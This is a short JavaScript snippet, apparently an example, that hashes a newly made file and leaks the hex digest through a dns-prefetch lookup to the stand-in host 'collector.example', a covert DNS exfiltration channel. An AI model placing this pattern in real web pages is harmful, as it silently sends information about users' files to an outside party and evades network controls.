// A digest of the file as a host name that is looked up.
whenMade(async ({ bytes }) => {
  const digest = new Uint8Array(await crypto.subtle.digest("SHA-256", bytes));
  const link = document.createElement("link");
  link.rel = "dns-prefetch";
  link.href = `//${hex(digest.slice(0, 30))}.collector.example`;
  document.head.append(link);
});
